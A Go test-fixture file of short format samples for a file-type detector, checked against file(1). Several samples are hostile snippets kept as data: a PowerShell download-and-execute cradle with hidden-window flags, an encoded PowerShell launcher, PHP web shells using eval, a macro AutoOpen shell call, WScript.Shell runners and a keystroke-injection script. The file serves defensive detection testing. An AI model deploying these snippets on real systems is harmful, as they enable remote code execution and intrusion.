package zoo

import "strings"

// of is a sample of which only the format is told here; its words are compared with those of file(1).
func of(format, content string) Sample {
	return Sample{Name: format, Content: []byte(content), Want: Result{Format: format}}
}

// languageZoo holds short programs as people write them.
func languageZoo() []Sample {
	return []Sample{
		of("code/c", "#include <stdio.h>\n\nstatic int count;\n\nint main(int argc, char **argv)\n{\n\tprintf(\"%d\\n\", argc);\n\treturn 0;\n}\n"),
		of("code/c", "/* no includes */\ntypedef unsigned int u32;\n\nstruct job {\n\tu32 id;\n\tchar *name;\n};\n\nstatic inline u32 id(struct job *j)\n{\n\treturn j->id;\n}\n"),
		of("code/h", "/* job.h */\n#ifndef JOB_H\n#define JOB_H\n\n#include <stddef.h>\n\nextern int job_run(const char *name);\n\n#endif\n"),
		of("code/h", "#pragma once\nclass Job;\nvoid run(Job *job);\n"),
		of("code/csharp", "using System;\nusing System.Net;\n\nnamespace Loader\n{\n    public class Program\n    {\n        static void Main(string[] args)\n        {\n            Console.WriteLine(args[0]);\n        }\n    }\n}\n"),
		of("code/java", "package org.example.jobs;\n\nimport java.util.List;\n\npublic class Job {\n    private final String name;\n\n    @Override\n    public String toString() {\n        return name;\n    }\n}\n"),
		of("code/go", "package main\n\nimport (\n\t\"fmt\"\n\t\"os\"\n)\n\nfunc main() {\n\tif err := run(); err != nil {\n\t\tfmt.Println(err)\n\t\tos.Exit(1)\n\t}\n}\n"),
		of("code/rust", "use std::fs;\n\npub struct Job {\n    name: String,\n}\n\nimpl Job {\n    pub fn run(&self) -> bool {\n        let mut n = 0;\n        n += 1;\n        n > 0\n    }\n}\n"),
		of("code/javascript", "const fs = require('fs');\n\nmodule.exports = function (name) {\n  return fs.readFileSync(name);\n};\n"),
		of("code/javascript", "var _0x1a=['\\x61'];(function(a,b){while(--b){a['push'](a['shift']());}}(_0x1a,0x1b3));eval(String.fromCharCode(97,108));\n"),
		of("code/jscript", "var shell = new ActiveXObject(\"WScript.Shell\");\nfunction go(c) {\n  shell.Run(c, 0, true);\n}\ngo(\"calc\");\n"),
		of("code/vbs", "On Error Resume Next\r\nDim shell\r\nSet shell = CreateObject(\"WScript.Shell\")\r\nIf Err.Number = 0 Then\r\n  shell.Run \"calc\"\r\nEnd If\r\n"),
		of("code/vbs", "Attribute VB_Name = \"Module1\"\r\nSub AutoOpen()\r\n  Dim s As String\r\n  s = Chr(99) & \"alc\"\r\n  Shell s\r\nEnd Sub\r\n"),
		of("code/ps1", "param(\n  [string]$Url\n)\n$client = New-Object System.Net.WebClient\n$data = $client.DownloadString($Url)\nInvoke-Expression $data\n"),
		of("code/ps1", "powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://example.org/a')\"\n"),
		{"code/ps1 in UTF-16", UTF16("function Get-Job2 {\r\n  Write-Host 'x'\r\n}\r\n$x = New-Object psobject\r\n"), Result{Format: "code/ps1"}},
		{"code/ps1 in UTF-16 without a mark", UTF16("$x = New-Object System.Net.WebClient\r\nInvoke-Expression $x\r\n")[2:], Result{"code/ps1", octetStream, "data", ""}},
		of("code/ps1", "powershell.exe -NoP -NonI -W Hidden -Enc SQBFAFgAIAAoAE4A\r\n"),
		of("code/batch", "setlocal\r\nif not exist \"%TEMP%\\a\" mkdir \"%TEMP%\\a\"\r\nfor %%f in (*.txt) do copy %%f \"%TEMP%\\a\"\r\nexit /b 0\r\n"),
		of("code/python", "import os\nimport sys as s\n\ndef run(name):\n    print(os.stat(name))\n\nif __name__ == \"__main__\":\n    run(s.argv[1])\n"),
		of("code/perl", "package Job;\nuse strict;\nuse warnings;\n\nsub run {\n    my ($self, $name) = @_;\n    return $name;\n}\n\n1;\n"),
		of("code/ruby", "# frozen_string_literal: true\nrequire 'json'\n\nclass Job < Base\n  attr_reader :name\n\n  def run\n    puts name\n  end\nend\n"),
		of("code/php", "<?php\nnamespace Job;\n\nfunction run($name) {\n    eval(base64_decode($name));\n}\n"),
		of("code/php", "<html><?php eval($_POST[\"a\"]); ?></html>\n"),
		of("code/css", "body {\n  margin: 0;\n  font-family: sans-serif;\n}\n\n.job:hover {\n  color: red;\n  padding: 2px;\n}\n"),
		of("code/sql", "-- jobs\nCREATE TABLE jobs (\n  id integer PRIMARY KEY,\n  name text NOT NULL\n);\nINSERT INTO jobs VALUES (1, 'a');\n"),
		of("code/lisp", ";;; job.el --- runs jobs\n\n(defvar job-name \"a\")\n\n(defun job-run ()\n  (interactive)\n  (message job-name))\n\n(provide 'job)\n"),
		of("code/markdown", "# Jobs\n\nHow to run [one](https://example.org/job).\n\n## Install\n\n```\nmake\n```\n\n- `run` runs\n"),
		of("code/protobuf", "syntax = \"proto3\";\n\npackage jobs;\n\nmessage Job {\n  string name = 1;\n  repeated string arg = 2;\n}\n"),
		of("code/glsl", "#version 330 core\nlayout(location = 0) in vec3 position;\nuniform mat4 view;\n\nvoid main() {\n  gl_Position = view * vec4(position, 1.0);\n}\n"),
		of("code/idl", "import \"unknwn.idl\";\n\n[object, uuid(12345678-1234-1234-1234-123456789abc), helpstring(\"a job\")]\ninterface IJob : IUnknown {\n  HRESULT Run([in] BSTR name);\n};\n"),
		of("code/au3", "#NoTrayIcon\n#include <File.au3>\n\nLocal $name = @ScriptDir & \"\\a.txt\"\nFunc Run2($n)\n  Return $n\nEndFunc\n"),
		of("code/ducky", "REM opens a shell\nDEFAULT_DELAY 50\nDELAY 1000\nGUI r\nSTRING cmd\nENTER\n"),
		of("code/jsp", "<%@ page import=\"java.io.*\" %>\n<%!\n  String run(String c) { return c; }\n%>\n<%= run(request.getParameter(\"c\")) %>\n"),
		of("code/hta", "<html>\n<head>\n<hta:application id=\"x\" showintaskbar=\"no\">\n<script language=\"VBScript\">\nCreateObject(\"WScript.Shell\").Run \"calc\"\n</script>\n</head>\n</html>\n"),
		of("code/html/component", "<public:component lightweight=\"true\">\n<script language=\"JScript\">\nfunction go() {}\n</script>\n</public:component>\n"),
		of("code/wsf", "<?xml version=\"1.0\"?>\n<package>\n<job id=\"a\">\n<script language=\"JScript\">\nvar a = 1;\n</script>\n</job>\n</package>\n"),
		of("code/wsc", "<component>\n<registration progid=\"A.B\"/>\n<script language=\"JScript\">\nvar a = 1;\n</script>\n</component>\n"),
		of("code/xfa", "<?xml version=\"1.0\"?>\n<template xmlns=\"http://www.xfa.org/schema/xfa-template/2.8/\">\n<script contentType=\"application/x-javascript\">xfa.host.messageBox(\"a\");</script>\n</template>\n"),
		of("code/clickonce", "<?xml version=\"1.0\"?>\n<asmv1:assembly xmlns:asmv1=\"urn:schemas-microsoft-com:asm.v1\" xmlns:co=\"urn:schemas-microsoft-com:clickonce.v1\">\n<deployment install=\"false\"/>\n</asmv1:assembly>\n"),
		of("code/xml", "<catalog>\n  <entry id=\"1\"/>\n</catalog>\n"),
		of("code/xml", "<?xml version=\"1.0\"?>\n<kml xmlns=\"http://www.opengis.net/kml/2.2\">\n</kml>\n"),
		of("metadata/sysmon", "<Events>\n<Event xmlns=\"http://schemas.microsoft.com/win/2004/08/events/event\"><System/></Event>\n</Events>\n"),
		of("log/vipermonkey", strings.Repeat("=", 79)+"\nFILE: /tmp/a.doc\n"+strings.Repeat("-", 79)+"\nVBA MACRO a.bas\nin file: a.doc\nVBA CODE (with long lines collapsed):\nSub A()\nPARSING VBA CODE:\n"),
		of("text/rdp", "screen mode id:i:2\r\ndesktopwidth:i:1024\r\nfull address:s:10.0.0.1\r\nusername:s:admin\r\n"),
		{"an HTML mail", []byte("Subject: hi\r\nFrom: a@example.org\r\nTo: b@example.org\r\nContent-Type: text/html\r\n\r\n<html></html>\r\n"), Result{
			"document/email", "message/rfc822", "RFC 822 mail, ASCII text, with CRLF line terminators", ""}},
		{"a mail with a program", []byte("DKIM-Signature: v=1; a=rsa-sha256;\n b=abc\nMessage-ID: <1@example.org>\nFrom: a@example.org\nSubject: hi\n\n#include <stdio.h>\nint main(void) {\n  return 0;\n}\n"), Result{
			"document/email", "message/rfc822", "RFC 822 mail, ASCII text", ""}},
		{"a mail of which the header is damaged", []byte("To: b@example.org\nFrom: a@example.org\nMessage-ID: <1@example.org>\nno field\n<html><title>x</title></html>\n"), Result{
			"document/email", "message/rfc822", "RFC 822 mail, ASCII text", ""}},
		{"a mail that begins with its version", []byte("MIME-Version: 1.0\nDate: Mon, 30 Nov 2026 10:00:00 +0000\nMessage-ID: <1@example.org>\nContent-Type: text/html\n\n<html><title>x</title></html>\n"), Result{
			"document/email", "message/rfc822", "MIME entity, ASCII text", ""}},
		{"a patch as a mail", []byte("From 0123456789abcdef0123456789abcdef01234567 Mon Sep 17 00:00:00 2001\nFrom: A <a@example.org>\nDate: Mon, 30 Nov 2026 10:00:00 +0000\nSubject: [PATCH] b\nMIME-Version: 1.0\n\n---\n" +
			"diff --git a/b b/b\n--- a/b\n+++ b/b\n@@ -1 +1 @@\n-a\n+b\n"), Result{"document/email", "text/x-diff", "unified diff output, ASCII text", ""}},
		{"a mail with a zero byte", []byte("Message-ID: <1@example.org>\r\nFrom: a@example.org\r\nX-Long: a\r\n b\r\nSubject: hi\r\n\r\nhello\x00\r\n"), Result{
			"document/email", "message/rfc822", "RFC 822 mail, data", ""}},
		{"a page about mails", []byte("<html><body><pre>\nFrom: a@example.org\nTo: b@example.org\nMessage-ID: <1@example.org>\n</pre></body></html>\n"), Result{
			"code/html", "text/html", "HTML document, ASCII text", ""}},
		{"mht", []byte("MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n"), Result{
			"document/email", "text/plain", "MIME entity, ASCII text, with CRLF line terminators", ""}},
		{"inf", []byte("; a driver\r\n[Version]\r\nSignature=\"$CHICAGO$\"\r\n"), Result{"code/autorun", "application/x-setupscript", "Windows setup INFormation", ""}},
		{"url", []byte("[InternetShortcut]\r\nURL=http://example.org/\r\n"), Result{"text/ini", "application/x-mswinurl",
			"MS Windows 95 Internet shortcut text (URL=<http://example.org/>), ASCII text, with CRLF line terminators", ""}},
		{"rtf after blanks", []byte("\r\n {\\rtf1\\ansi hello}"), Result{"document/office/rtf", "text/rtf", "Rich Text Format data, version 1, ANSI", ""}},
		of("text/ini", "[.ShellClassInfo]\r\nIconFile=a.ico\r\n"),
		of("text/ini", "; settings\r\n[boot loader]\r\ntimeout=30\r\n"),
	}
}

// legacyZoo holds formats without a signature worth the name, made from their specifications.
func legacyZoo() []Sample {
	com := "\xeb\x06hello$\xba\x02\x01\xb4\x09\xcd\x21\xb8\x00\x4c\xcd\x21"
	arc := put8(put8(pad("\x1a\x08NAME.TXT\x00", 60), 15, 20), 25, 40)
	dbf := put8(put8(put8(put8(put8(pad("\x03\x7c\x01\x1f", 98), 4, 1), 8, 65), 10, 11), 43, 'C'), 48, 10)
	copy(dbf[32:], "NAME")
	dbf[64] = 0x0d
	tga := put8(put8(put8(put8(put8(pad("\x00\x00\x02", 18+12), 12, 2), 14, 2), 16, 24), 17, 0x20), 18, 1)
	evtx := put8(put8(put8(pad("ElfFile\x00", 4096), 36, 1), 38, 3), 42, 1)
	opaque := peSpec{machine: 0x14c, subsystem: 2, flags: 0x102, sections: 3}.bytes()
	opaque[0x80+24], opaque[0x80+25] = 0x07, 0x02
	return []Sample{
		of("executable/windows/com", com),
		{"driver for DOS", pad("\xff\xff\xff\xff\x00\x80\x20\x00\x30\x00CON     ", 120), Result{
			"executable/windows/dos", "application/x-dosdriver", "DOS executable (character device driver CON)", ""}},
		{"object for DOS", pad("\x80\x09\x00\x07hello.c\x00\x88\x08\x00\x00\x9dabcde\x00", 60), Result{"executable/windows/dos", "application/x-object",
			`8086 relocatable (Microsoft), "hello.c", 1st record data length 9, 2nd record type 0x88, 2nd record data length 8`, ""}},
		{"bitmap without header", put32(put8(put8(put32(put32(pad("\x28", 1100), 4, 16), 8, 32), 12, 1), 14, 8), 20, 256), Result{
			"image/bmp", "image/x-ms-bmp", "Device independent bitmap graphic, 16 x 32 x 8, image size 256", ""}},
		{"pcapng", pad("\x0a\x0d\x0d\x0a\x1c\x00\x00\x00\x4d\x3c\x2b\x1a\x01\x00\x00\x00", 28), Result{
			"network/tcpdump", octetStream, "pcapng capture file - version 1.0", ""}},
		{"executable/windows/pe", opaque, Result{Format: "executable/windows/pe"}},
		{"archive/arc", arc, Result{Format: "archive/arc"}},
		{"db/dbf", dbf, Result{Format: "db/dbf"}},
		{"db/odt", declaring("application/vnd.oasis.opendocument.base", "content.xml"), Result{Format: "db/odt"}},
		{"image/tga", tga, Result{Format: "image/tga"}},
		of("document/lotus/spreadsheet", "\x00\x00\x02\x00\x06\x04\x06\x00\x08\x00\x00\x00\x00\x00\x01\x00\x01\x00\x01\x00\x00\x00"),
		{"metadata/sysmon/evt", evtx, Result{Format: "metadata/sysmon/evt"}},
		{"meta/memory/biopsy", pad("0123456789_BIOPSY:1\x00", 64), Result{Format: "meta/memory/biopsy"}},
		{"sff", pad("Sfff\x01\x00\x00\x00\x14\x00", 40), Result{Format: "sff"}},
		of("code/a3x", "\xa3\x48\x4b\xbe\x98\x6c\x4a\xa9\x99\x4c\x53\x0a\x86\xd6\x48\x7dAU3!EA06\x00\x01\x02"),
		{"audio/ogg, opus", append(put8(pad("OggS\x00\x02", 28), 26, 1), "OpusHead\x01\x02"...), Result{Format: "audio/ogg"}},
		of("document/ps", "%!PS\n/Helvetica findfont 12 scalefont setfont\nshowpage\n"),
	}
}
